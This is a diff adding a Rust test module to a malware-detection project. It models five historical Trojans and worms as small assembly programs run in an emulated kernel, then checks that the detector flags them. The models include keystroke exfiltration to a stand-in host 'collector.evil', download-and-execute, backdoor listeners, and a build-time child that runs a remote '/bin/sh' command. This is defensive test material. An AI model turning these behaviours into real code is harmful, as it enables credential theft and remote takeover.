@@ -1,0 +1,641 @@
+//! Behavioural models of the §2.1 / Table 1 real-world malware.
+//!
+//! The paper catalogues nine Windows-era Trojans/worms but evaluates HTH
+//! on Unix exploits; these scenarios close the loop by modelling three
+//! representative Table 1 specimens on this substrate, exhibiting the
+//! exact behaviours the paper's prose describes — and checking HTH flags
+//! each one.
+
+use emukernel::{Endpoint, Peer, RemoteClient};
+use hth_core::{Session, Severity};
+
+use crate::scenario::{Expectation, Group, Scenario, StartSpec};
+
+/// The modelled Table 1 specimens.
+pub fn scenarios() -> Vec<Scenario> {
+    vec![pwsteal_tarno(), trojan_lodeight(), mytob(), sendmail_trojan(), tcp_wrappers_trojan()]
+}
+
+/// PWSteal.Tarno.Q (§2.1 example 1): "captures keystrokes and web forms
+/// submitted … stores the information in several predefined files. Then
+/// the Trojan sends a unique ID (of the compromised computer) to the
+/// attacker … and periodically sends the collected information to a
+/// predefined url."
+fn pwsteal_tarno() -> Scenario {
+    Scenario {
+        id: "PWSteal.Tarno.Q",
+        group: Group::Extension,
+        description: "password stealer: keystrokes → predefined file → predefined url, \
+                      plus a hardware-derived unique ID sent home",
+        paper_note: "Table 1: no user intervention + hardcoded resources",
+        expected: Expectation::Rules(
+            Severity::High,
+            &["flow_user_to_file", "flow_hardware_to_socket", "flow_file_to_socket"],
+        ),
+        setup: Box::new(|session: &mut Session| {
+            session.kernel.push_stdin(b"bank-password".to_vec());
+            session.kernel.net.add_host("collector.evil", 0x0b00_0001);
+            session
+                .kernel
+                .net
+                .add_peer(Endpoint { ip: 0x0b00_0001, port: 80 }, Peer::default());
+            session.kernel.register_binary(
+                "/models/tarno",
+                r#"
+                .equ KEYS,  0x09000000
+                .equ HWID,  0x09000100
+                .equ LOOT,  0x09000200
+                _start:
+                    ; capture "web form" keystrokes
+                    mov eax, 3
+                    mov ebx, 0
+                    mov ecx, KEYS
+                    mov edx, 13
+                    int 0x80
+                    ; store them in the predefined file
+                    mov eax, 5
+                    mov ebx, logfile
+                    mov ecx, 0x41
+                    int 0x80
+                    mov esi, eax
+                    mov eax, 4
+                    mov ebx, esi
+                    mov ecx, KEYS
+                    mov edx, 13
+                    int 0x80
+                    mov eax, 6
+                    mov ebx, esi
+                    int 0x80
+                    ; unique machine ID from the hardware
+                    cpuid
+                    mov [HWID], eax
+                    mov [HWID+4], ebx
+                    ; connect to the predefined collection point
+                    mov eax, 102
+                    mov ebx, 1
+                    mov ecx, sockargs
+                    int 0x80
+                    mov edi, eax
+                    mov [connargs], edi
+                    mov eax, 102
+                    mov ebx, 3
+                    mov ecx, connargs
+                    int 0x80
+                    ; send the unique ID
+                    mov [send_id], edi
+                    mov eax, 102
+                    mov ebx, 9
+                    mov ecx, send_id
+                    int 0x80
+                    ; "periodically" send the collected file
+                    mov eax, 5
+                    mov ebx, logfile
+                    mov ecx, 0
+                    int 0x80
+                    mov esi, eax
+                    mov eax, 3
+                    mov ebx, esi
+                    mov ecx, LOOT
+                    mov edx, 13
+                    int 0x80
+                    mov [send_loot], edi
+                    mov eax, 102
+                    mov ebx, 9
+                    mov ecx, send_loot
+                    int 0x80
+                    mov eax, 1
+                    mov ebx, 0
+                    int 0x80
+                .data
+                logfile:   .asciz ".tarno/forms.dat"
+                sockargs:  .long 2, 1, 0
+                addr:      .word 2
+                port:      .word 80
+                ip:        .long 0x0b000001
+                connargs:  .long 0, addr, 8
+                send_id:   .long 0, 0x09000100, 8, 0
+                send_loot: .long 0, 0x09000200, 13, 0
+                "#,
+                &[],
+            );
+            StartSpec::plain("/models/tarno")
+        }),
+    }
+}
+
+/// Trojan.Lodeight.A (§2.1 example 2): "connects to one of two
+/// predefined websites and downloads a remote file and executes it …
+/// Then this Trojan opens a Backdoor on a TCP port 1084."
+fn trojan_lodeight() -> Scenario {
+    Scenario {
+        id: "Trojan.Lodeight.A",
+        group: Group::Extension,
+        description: "downloads an executable from a predefined site, runs it, \
+                      then opens a backdoor on port 1084",
+        paper_note: "Table 1: remotely directed + hardcoded resources",
+        expected: Expectation::Rules(
+            Severity::High,
+            &[
+                "flow_socket_to_file",
+                "flow_executable_download",
+                "check_execve",
+                "check_backdoor_server",
+            ],
+        ),
+        setup: Box::new(|session: &mut Session| {
+            session.kernel.net.add_host("update.lodeight.example", 0x0c00_0001);
+            session.kernel.net.add_peer(
+                Endpoint { ip: 0x0c00_0001, port: 80 },
+                Peer {
+                    // The downloaded body is an executable (ELF magic).
+                    on_connect: vec![b"\x7fELF-beagle-worm".to_vec()],
+                    ..Peer::default()
+                },
+            );
+            session.kernel.net.add_host("attacker", 0xc0a8_0909);
+            session.kernel.net.queue_client(
+                1084,
+                RemoteClient {
+                    from: Endpoint { ip: 0xc0a8_0909, port: 40000 },
+                    sends: [b"run\n".to_vec()].into(),
+                    received: Vec::new(),
+                },
+            );
+            session.kernel.register_binary(
+                "/models/lodeight",
+                r#"
+                .equ BODY, 0x09000000
+                _start:
+                    ; download from the predefined website
+                    mov eax, 102
+                    mov ebx, 1
+                    mov ecx, sockargs
+                    int 0x80
+                    mov edi, eax
+                    mov [connargs], edi
+                    mov eax, 102
+                    mov ebx, 3
+                    mov ecx, connargs
+                    int 0x80
+                    mov [recvargs], edi
+                    mov eax, 102
+                    mov ebx, 10
+                    mov ecx, recvargs
+                    int 0x80
+                    ; drop the payload
+                    mov eax, 5
+                    mov ebx, dropname
+                    mov ecx, 0x41
+                    int 0x80
+                    mov esi, eax
+                    mov eax, 4
+                    mov ebx, esi
+                    mov ecx, BODY
+                    mov edx, 16
+                    int 0x80
+                    mov eax, 6
+                    mov ebx, esi
+                    int 0x80
+                    ; execute it
+                    mov eax, 11
+                    mov ebx, dropname
+                    int 0x80
+                    ; open the backdoor on port 1084
+                    mov eax, 102
+                    mov ebx, 1
+                    mov ecx, sockargs2
+                    int 0x80
+                    mov esi, eax
+                    mov [bindargs], esi
+                    mov eax, 102
+                    mov ebx, 2
+                    mov ecx, bindargs
+                    int 0x80
+                    mov [listenargs], esi
+                    mov eax, 102
+                    mov ebx, 4
+                    mov ecx, listenargs
+                    int 0x80
+                    mov [acceptargs], esi
+                    mov eax, 102
+                    mov ebx, 5
+                    mov ecx, acceptargs
+                    int 0x80
+                    mov edi, eax
+                    ; acknowledge the attacker (transfer over the backdoor)
+                    mov [sendargs], edi
+                    mov eax, 102
+                    mov ebx, 9
+                    mov ecx, sendargs
+                    int 0x80
+                    mov eax, 1
+                    mov ebx, 0
+                    int 0x80
+                .data
+                dropname:   .asciz "bgl.exe"
+                banner:     .asciz "lodeight-ready"
+                sockargs:   .long 2, 1, 0
+                waddr:      .word 2
+                wport:      .word 80
+                wip:        .long 0x0c000001
+                connargs:   .long 0, waddr, 8
+                recvargs:   .long 0, 0x09000000, 16, 0
+                sockargs2:  .long 2, 1, 0
+                baddr:      .word 2
+                bport:      .word 1084
+                bip:        .long 0
+                bindargs:   .long 0, baddr, 8
+                listenargs: .long 0, 1
+                acceptargs: .long 0, 0, 0
+                sendargs:   .long 0, banner, 14, 0
+                "#,
+                &[],
+            );
+            StartSpec::plain("/models/lodeight")
+        }),
+    }
+}
+
+/// W32.Mytob.J@mm (§2.1 example 3): "copies itself to a system folder …
+/// collects email addresses and sends itself to some of those addresses
+/// … starts an FTP server … and listens for commands".
+fn mytob() -> Scenario {
+    Scenario {
+        id: "W32.Mytob.J@mm",
+        group: Group::Extension,
+        description: "mass mailer: self-copy to a system path, harvest the address \
+                      book, mail itself out, listen for commands",
+        paper_note: "Table 1: all four behaviour columns",
+        expected: Expectation::Rules(
+            Severity::High,
+            &["flow_binary_to_file", "flow_file_to_socket", "check_backdoor_server"],
+        ),
+        setup: Box::new(|session: &mut Session| {
+            session.kernel.vfs.install(
+                "/home/user/addressbook",
+                emukernel::FileNode::regular(b"alice@example;bob@example".to_vec()),
+            );
+            session.kernel.net.add_host("smtp.example", 0x0d00_0001);
+            session
+                .kernel
+                .net
+                .add_peer(Endpoint { ip: 0x0d00_0001, port: 25 }, Peer::default());
+            session.kernel.net.queue_client(
+                10027,
+                RemoteClient {
+                    from: Endpoint { ip: 0xc0a8_0777, port: 50000 },
+                    sends: [b"GETFILE\n".to_vec()].into(),
+                    received: Vec::new(),
+                },
+            );
+            session.kernel.register_binary(
+                "/models/mytob",
+                r#"
+                .equ ADDRS, 0x09000000
+                _start:
+                    ; copy itself to the "system folder" (hardcoded bytes
+                    ; standing in for its own image)
+                    mov eax, 5
+                    mov ebx, syscopy
+                    mov ecx, 0x41
+                    int 0x80
+                    mov esi, eax
+                    mov eax, 4
+                    mov ebx, esi
+                    mov ecx, selfbytes
+                    mov edx, 18
+                    int 0x80
+                    mov eax, 6
+                    mov ebx, esi
+                    int 0x80
+                    ; harvest the address book (hardcoded path)
+                    mov eax, 5
+                    mov ebx, abook
+                    mov ecx, 0
+                    int 0x80
+                    mov esi, eax
+                    mov eax, 3
+                    mov ebx, esi
+                    mov ecx, ADDRS
+                    mov edx, 24
+                    int 0x80
+                    ; mail the harvest to the hardcoded SMTP relay
+                    mov eax, 102
+                    mov ebx, 1
+                    mov ecx, sockargs
+                    int 0x80
+                    mov edi, eax
+                    mov [connargs], edi
+                    mov eax, 102
+                    mov ebx, 3
+                    mov ecx, connargs
+                    int 0x80
+                    mov [sendargs], edi
+                    mov eax, 102
+                    mov ebx, 9
+                    mov ecx, sendargs
+                    int 0x80
+                    ; command channel: listen and answer the attacker
+                    mov eax, 102
+                    mov ebx, 1
+                    mov ecx, sockargs2
+                    int 0x80
+                    mov esi, eax
+                    mov [bindargs], esi
+                    mov eax, 102
+                    mov ebx, 2
+                    mov ecx, bindargs
+                    int 0x80
+                    mov [listenargs], esi
+                    mov eax, 102
+                    mov ebx, 4
+                    mov ecx, listenargs
+                    int 0x80
+                    mov [acceptargs], esi
+                    mov eax, 102
+                    mov ebx, 5
+                    mov ecx, acceptargs
+                    int 0x80
+                    mov edi, eax
+                    mov [cmdsend], edi
+                    mov eax, 102
+                    mov ebx, 9
+                    mov ecx, cmdsend
+                    int 0x80
+                    mov eax, 1
+                    mov ebx, 0
+                    int 0x80
+                .data
+                syscopy:    .asciz "/windows/system/mytob.exe"
+                selfbytes:  .asciz "MZ-mytob-self-copy"
+                abook:      .asciz "/home/user/addressbook"
+                sockargs:   .long 2, 1, 0
+                saddr:      .word 2
+                sport:      .word 25
+                sip:        .long 0x0d000001
+                connargs:   .long 0, saddr, 8
+                sendargs:   .long 0, 0x09000000, 24, 0
+                sockargs2:  .long 2, 1, 0
+                baddr:      .word 2
+                bport:      .word 10027
+                bip:        .long 0
+                bindargs:   .long 0, baddr, 8
+                listenargs: .long 0, 1
+                acceptargs: .long 0, 0, 0
+                ok:         .asciz "220 ok"
+                cmdsend:    .long 0, ok, 6, 0
+                "#,
+                &[],
+            );
+            StartSpec::plain("/models/mytob")
+        }),
+    }
+}
+
+/// Sendmail Trojan (§2.1 example 8): "The Trojan forks a process that
+/// connects to a fixed remote server on port 6667. The forked process
+/// allows an intruder to open a shell running as the user who built the
+/// Sendmail software."
+fn sendmail_trojan() -> Scenario {
+    Scenario {
+        id: "Sendmail Trojan",
+        group: Group::Extension,
+        description: "build-time trojan: forks a child that connects to a fixed                       server and executes whatever the intruder names",
+        paper_note: "Table 1: remotely directed + hardcoded resources (CERT CA-2002-28)",
+        expected: Expectation::Rules(Severity::High, &["check_execve"]),
+        setup: Box::new(|session: &mut Session| {
+            session.kernel.net.add_host("aclue.com", 0x0e00_0001);
+            session.kernel.net.add_peer(
+                Endpoint { ip: 0x0e00_0001, port: 6667 },
+                Peer {
+                    // The intruder's first command: run a shell.
+                    on_connect: vec![b"/bin/sh ".to_vec()],
+                    ..Peer::default()
+                },
+            );
+            session.kernel.register_binary(
+                "/models/sendmail-build",
+                r#"
+                .equ CMD, 0x09000000
+                _start:
+                    ; the "build" does some normal-looking work
+                    mov eax, 5
+                    mov ebx, makefile
+                    mov ecx, 0
+                    int 0x80
+                    ; ... then the trojaned build script forks
+                    mov eax, 2
+                    int 0x80
+                    cmp eax, 0
+                    je intruder_shell
+                    mov eax, 1          ; parent: the build "finishes"
+                    mov ebx, 0
+                    int 0x80
+                intruder_shell:
+                    ; child: connect to the fixed server on port 6667
+                    mov eax, 102
+                    mov ebx, 1
+                    mov ecx, sockargs
+                    int 0x80
+                    mov edi, eax
+                    mov [connargs], edi
+                    mov eax, 102
+                    mov ebx, 3
+                    mov ecx, connargs
+                    int 0x80
+                    ; receive the intruder's command and execute it
+                    mov [recvargs], edi
+                    mov eax, 102
+                    mov ebx, 10
+                    mov ecx, recvargs
+                    int 0x80
+                    mov eax, 11
+                    mov ebx, CMD
+                    int 0x80
+                    mov eax, 1
+                    mov ebx, 0
+                    int 0x80
+                .data
+                makefile: .asciz "Makefile"
+                sockargs: .long 2, 1, 0
+                addr:     .word 2
+                port:     .word 6667
+                ip:       .long 0x0e000001
+                connargs: .long 0, addr, 8
+                recvargs: .long 0, 0x09000000, 64, 0
+                "#,
+                &[],
+            );
+            StartSpec::plain("/models/sendmail-build")
+        }),
+    }
+}
+
+/// TCP Wrappers Trojan (§2.1 example 9): "provide root access to
+/// intruders who are initiating connections with a source port of 421.
+/// Also, upon compilation … this Trojan horse sends email to an external
+/// address [with] information obtained from running the commands whoami
+/// and uname -a."
+fn tcp_wrappers_trojan() -> Scenario {
+    Scenario {
+        id: "TCP Wrappers Trojan",
+        group: Group::Extension,
+        description: "backdoor on port 421 plus fingerprint email (uname-like                       hardware info to a fixed address)",
+        paper_note: "Table 1: remotely directed + hardcoded resources (CERT CA-1999-01)",
+        expected: Expectation::Rules(
+            Severity::High,
+            &["flow_hardware_to_socket", "check_backdoor_server"],
+        ),
+        setup: Box::new(|session: &mut Session| {
+            session.kernel.net.add_host("mailhost.example", 0x0f00_0001);
+            session
+                .kernel
+                .net
+                .add_peer(Endpoint { ip: 0x0f00_0001, port: 25 }, Peer::default());
+            session.kernel.net.queue_client(
+                421,
+                RemoteClient {
+                    from: Endpoint { ip: 0xc0a8_0406, port: 421 },
+                    sends: [b"id
+".to_vec()].into(),
+                    received: Vec::new(),
+                },
+            );
+            session.kernel.register_binary(
+                "/models/tcpd",
+                r#"
+                .equ INFO, 0x09000000
+                _start:
+                    ; gather identifying info (the uname -a analogue)
+                    cpuid
+                    mov [INFO], eax
+                    mov [INFO+4], ebx
+                    mov [INFO+8], edx
+                    ; email it to the hardcoded external address
+                    mov eax, 102
+                    mov ebx, 1
+                    mov ecx, sockargs
+                    int 0x80
+                    mov edi, eax
+                    mov [connargs], edi
+                    mov eax, 102
+                    mov ebx, 3
+                    mov ecx, connargs
+                    int 0x80
+                    mov [mailargs], edi
+                    mov eax, 102
+                    mov ebx, 9
+                    mov ecx, mailargs
+                    int 0x80
+                    ; the port-421 backdoor: accept the intruder and answer
+                    mov eax, 102
+                    mov ebx, 1
+                    mov ecx, sockargs2
+                    int 0x80
+                    mov esi, eax
+                    mov [bindargs], esi
+                    mov eax, 102
+                    mov ebx, 2
+                    mov ecx, bindargs
+                    int 0x80
+                    mov [listenargs], esi
+                    mov eax, 102
+                    mov ebx, 4
+                    mov ecx, listenargs
+                    int 0x80
+                    mov [acceptargs], esi
+                    mov eax, 102
+                    mov ebx, 5
+                    mov ecx, acceptargs
+                    int 0x80
+                    mov edi, eax
+                    mov [rootsend], edi
+                    mov eax, 102        ; grant the "root shell" banner
+                    mov ebx, 9
+                    mov ecx, rootsend
+                    int 0x80
+                    mov eax, 1
+                    mov ebx, 0
+                    int 0x80
+                .data
+                sockargs:   .long 2, 1, 0
+                maddr:      .word 2
+                mport:      .word 25
+                mip:        .long 0x0f000001
+                connargs:   .long 0, maddr, 8
+                mailargs:   .long 0, 0x09000000, 12, 0
+                sockargs2:  .long 2, 1, 0
+                baddr:      .word 2
+                bport:      .word 421
+                bip:        .long 0
+                bindargs:   .long 0, baddr, 8
+                listenargs: .long 0, 1
+                acceptargs: .long 0, 0, 0
+                rootbanner: .asciz "uid=0(root)"
+                rootsend:   .long 0, rootbanner, 11, 0
+                "#,
+                &[],
+            );
+            StartSpec::plain("/models/tcpd")
+        }),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn table1_models_are_all_flagged() {
+        let mut failures = Vec::new();
+        for scenario in scenarios() {
+            let result = scenario.run().unwrap();
+            if !result.correct() {
+                failures.push(format!(
+                    "{}: expected {:?}, got {:?} rules {:?}\n{}",
+                    scenario.id,
+                    scenario.expected,
+                    result.max_severity(),
+                    result.rules_fired(),
+                    result.transcript,
+                ));
+            }
+        }
+        assert!(failures.is_empty(), "{}", failures.join("\n---\n"));
+    }
+
+    #[test]
+    fn lodeight_detects_the_executable_download() {
+        let result = trojan_lodeight().run().unwrap();
+        assert!(result.transcript.contains("is an executable"), "{}", result.transcript);
+        assert!(result.transcript.contains("1084"), "{}", result.transcript);
+    }
+
+    #[test]
+    fn sendmail_child_executes_remote_command() {
+        let result = sendmail_trojan().run().unwrap();
+        let w = result
+            .warnings
+            .iter()
+            .find(|w| w.rule == "check_execve")
+            .expect("remote execve flagged");
+        assert_eq!(w.severity, Severity::High);
+        assert!(w.message.contains("originated from a socket"), "{w}");
+    }
+
+    #[test]
+    fn tcp_wrappers_port_421_is_a_backdoor() {
+        let result = tcp_wrappers_trojan().run().unwrap();
+        assert!(result.transcript.contains(":421"), "{}", result.transcript);
+    }
+
+    #[test]
+    fn tarno_hardware_id_exfil_is_flagged() {
+        let result = pwsteal_tarno().run().unwrap();
+        assert!(
+            result.warnings.iter().any(|w| w.rule == "flow_hardware_to_socket"),
+            "{:?}",
+            result.rules_fired()
+        );
+    }
+}
